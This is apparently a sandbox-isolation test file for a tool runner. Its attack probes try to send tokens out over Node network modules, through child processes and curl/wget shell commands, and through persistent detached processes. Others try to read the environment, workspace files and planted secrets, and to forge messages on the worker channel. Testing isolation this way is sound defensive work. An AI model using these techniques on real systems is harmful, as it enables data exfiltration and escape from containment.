import type { Attack } from '../lab/attack.ts';

/** Ways out that Node has and a browser's worker lacks. Each attack tries several. */
export const NODE_ATTACKS: readonly Attack[] = [
  {
    name: 'http, https, net, tls, dns, dgram and fetch of Node',
    group: 'network',
    code: `
      const url = params.http + '/' + params.token;
      const get = (module, address, options = {}) =>
        new Promise((resolve, reject) =>
          require(module)
            .get(address, options, (answer) => {
              answer.resume();
              resolve(answer.statusCode);
            })
            .on('error', reject),
        );
      lab.attempt('http', () => get('http', url + '/http'));
      lab.attempt('http by name', () => get('http', params.named + '/' + params.token));
      lab.attempt('https', () => get('https', url.replace('http:', 'https:')));
      lab.attempt(
        'http with a socket',
        () =>
          new Promise((resolve, reject) => {
            const { hostname, port } = new URL(params.http);
            const s = require('net').connect(Number(port), hostname, () =>
              s.write('GET /' + params.token + '/net HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'),
            );
            s.on('data', (bytes) =>
              /^HTTP\\/1.1 (?:2|3)/.test(String(bytes))
                ? resolve(String(bytes))
                : reject(new Error(String(bytes).slice(0, 60))),
            );
            s.on('error', reject);
          }),
      );
      lab.attempt(
        'raw socket',
        () =>
          new Promise((resolve, reject) => {
            const { hostname, port } = new URL(params.tcp);
            const s = require('net').connect(Number(port), hostname, () => s.write('raw ' + params.token));
            s.on('data', resolve);
            s.on('error', reject);
          }),
      );
      lab.attempt(
        'tls',
        () =>
          new Promise((resolve, reject) => {
            const { hostname, port } = new URL(params.http);
            const s = require('tls').connect(Number(port), hostname, { rejectUnauthorized: false }, () =>
              s.write('GET /' + params.token + ' HTTP/1.0\\r\\n\\r\\n'),
            );
            s.on('data', (bytes) =>
              /^HTTP\\/1.. (?:2|3)/.test(String(bytes)) ? resolve(String(bytes)) : reject(new Error('refused')),
            );
            s.on('error', reject);
          }),
      );
      lab.attempt(
        'dns',
        () =>
          new Promise((resolve, reject) =>
            require('dns').resolve4(params.host, (error, found) => (error ? reject(error) : resolve(found))),
          ),
      );
      lab.attempt(
        'udp',
        () =>
          new Promise((resolve, reject) => {
            const s = require('dgram').createSocket('udp4');
            s.on('error', reject);
            s.send(params.token, params.udpPort, '127.0.0.1', (error) =>
              reject(error ?? new Error('into the network of the tab')),
            );
          }),
      );
      lab.attempt('fetch', async () => (await fetch(url + '/fetch')).status);
      lab.attempt('the app', async () => (await fetch(params.app + '/')).status);
      lab.attempt('the app by http', () => get('http', params.app + '/'));`,
  },
  {
    name: 'the same from a child, a worker thread, a fork and a shell',
    group: 'network',
    timeoutMs: 20_000,
    code: `
      const fs = require('fs'),
        { execFile, exec, fork } = require('child_process'),
        { Worker } = require('worker_threads');
      const url = params.http + '/' + params.token;
      const program = (where) =>
        'const u = ' +
        JSON.stringify(url) +
        " + '/" +
        where +
        "'; const said = []; const done = (text) => said.push(text); Promise.allSettled([fetch(u).then((r) => done('fetch ' + r.status)), new Promise((y, n) => require('http').get(u, (r) => { done('http ' + r.statusCode); r.resume(); y(); }).on('error', n)), import(u).then(() => done('import'))]).then(() => { (process.send ?? ((text) => process.stdout.write(JSON.stringify(text))))(said); process.exit(); });";
      fs.writeFileSync('/tmp/child.cjs', program('child'));
      fs.writeFileSync('/tmp/fork.cjs', program('fork'));
      lab.attempt(
        'child',
        () =>
          new Promise((resolve, reject) =>
            execFile('node', ['/tmp/child.cjs'], (error, out) =>
              error ? reject(error) : resolve(JSON.parse(out)),
            ),
          ),
        15000,
      );
      lab.attempt(
        'fork',
        () =>
          new Promise((resolve, reject) => {
            const c = fork('/tmp/fork.cjs');
            c.on('message', resolve);
            c.on('error', reject);
            c.on('exit', () => reject(new Error('exit')));
          }),
        15000,
      );
      lab.attempt(
        'thread',
        () =>
          new Promise((resolve, reject) => {
            const w = new Worker(
              "const { parentPort } = require('worker_threads'); fetch(" +
                JSON.stringify(url + '/thread') +
                ').then((r) => parentPort.postMessage(r.status), () => parentPort.postMessage(null))',
              { eval: true },
            );
            w.on('message', resolve);
            w.on('error', reject);
          }),
        15000,
      );
      lab.attempt(
        'shell',
        () =>
          new Promise((resolve, reject) =>
            exec('curl -s ' + url + '/curl && echo got; wget ' + url + '/wget && echo got', (error, out) =>
              /got/.test(out) ? resolve(out) : reject(error ?? new Error('nothing')),
            ),
          ),
        15000,
      );`,
  },
  {
    name: 'what is left behind: timers, children and threads after the end',
    group: 'network',
    timeoutMs: 10_000,
    code: `
      const fs = require('fs'), { spawn } = require('child_process'), { Worker } = require('worker_threads');
      const url = params.http + '/' + params.token;
      const again = "setInterval(() => { fetch(" + JSON.stringify(url) + " + '/late').catch(() => {}); }, 20)";
      fs.writeFileSync('/tmp/late.cjs', again);
      spawn('node', ['/tmp/late.cjs'], { detached: true }).unref();
      new Worker(again, { eval: true }).unref();
      setInterval(() => { fetch(url + '/late').catch(() => {}); }, 20).unref();
      process.on('exit', () => { fetch(url + '/exit').catch(() => {}); });
      lab.attempt('started', () => undefined);`,
  },
  {
    name: 'past Node’s library: bindings, vm, constructors, wasm, the browser’s own classes',
    group: 'network',
    code: `
      const url = params.http + '/' + params.token;
      const vm = require('vm');
      lab.attempt('binding', () => Object.keys(process.binding('natives')).length > 0 && process.binding('fetch'));
      for (const [name, make] of Object.entries({
        vm: (text) => vm.runInNewContext(text),
        this: (text) => vm.runInThisContext(text),
        eval: (text) => (0, eval)(text),
        fn: (text) => new Function('return ' + text)(),
        module: (text) => {
          const m = new (require('module'))('/x.js');
          m._compile('module.exports = ' + text, '/x.js');
          return m.exports;
        },
      })) {
        for (const word of [
          'XMLHttpRequest',
          'WebSocket',
          'EventSource',
          'WebTransport',
          'importScripts',
          'indexedDB',
          'caches',
          'navigator.serviceWorker',
          'localStorage',
          'BroadcastChannel.name === "BroadcastChannel" && 0',
          'postMessage',
          'document',
          'parent',
          'SharedWorker',
          'FileReaderSync',
        ]) {
          lab.attempt(name + ' ' + word, () => {
            const found = make(
              'typeof ' + word.split('.')[0] + ' !== "undefined" && String(' + word + ').includes("native code")',
            );
            return found === true ? word : undefined;
          });
        }
      }
      lab.attempt('importing over the network', async () => Object.keys(await import(url + '/module.mjs')));
      lab.attempt(
        'a data module that does',
        async () =>
          (
            await import(
              'data:text/javascript,export default await import(' +
                JSON.stringify(JSON.stringify(url + '/data.mjs')) +
                ')'
            )
          ).default,
      );
      lab.attempt('the prototype chain of the global', () => {
        const found = [];
        for (let at = globalThis; at; at = Object.getPrototypeOf(at))
          for (const key of Object.getOwnPropertyNames(at))
            if (/^(?:fetch|XMLHttpRequest|WebSocket|importScripts|indexedDB|caches|postMessage|close)$/.test(key)) {
              const value = Object.getOwnPropertyDescriptor(at, key).value;
              if (typeof value === 'function' && Function.prototype.toString.call(value).includes('[native code]'))
                found.push(key);
            }
        return found;
      });`,
  },
  {
    name: 'files and secrets that were not given: the workspace, the environment, other tools',
    group: 'storage',
    code: `
      const fs = require('fs');
      const look = (folder) =>
        fs
          .readdirSync(folder, { withFileTypes: true })
          .flatMap((entry) =>
            entry.isDirectory() ? look(folder + '/' + entry.name) : [folder + '/' + entry.name],
          );
      lab.attempt('workspace', () => look('').filter((path) => !path.startsWith('/.toolyard/')));
      lab.attempt('root listed', () => fs.readdirSync('/').filter((name) => name !== '.toolyard'));
      lab.attempt('environment', () =>
        Object.keys(process.env).filter((name) => !['HOME', 'PATH', 'USER', 'LANG', 'TMPDIR'].includes(name)),
      );
      lab.attempt('secret', () => context.secrets.get('PLANTED_KEY'));
      lab.attempt('storage of another tool', () => context.storage.get('planted'));
      lab.attempt('opfs', async () => (await navigator.storage.getDirectory()) && 'root');`,
  },
  {
    name: 'words on the channel that are not a tool’s to say, found through MessagePort',
    group: 'forged',
    code: `
      const { MessagePort, MessageChannel } = require('worker_threads');
      const heard = [];
      lab.attempt('ports of the worker', () => {
        const post = MessagePort.prototype.postMessage;
        MessagePort.prototype.postMessage = function (...all) {
          heard.push(all.length);
          return post.apply(this, all);
        };
        context.log('through the channel');
        return heard;
      });
      lab.attempt('stringify', () => {
        const { stringify } = JSON;
        const seen = [];
        JSON.stringify = (value, ...rest) => {
          if (value && value.type === 'log') seen.push(value);
          return stringify(value, ...rest);
        };
        context.log('through JSON');
        JSON.stringify = stringify;
        return seen;
      });
      lab.attempt('console internals', () =>
        Object.getOwnPropertySymbols(console)
          .map((key) => console[key])
          .filter((value) => typeof value === 'object' && value !== null && 'port' in value),
      );`,
  },
];
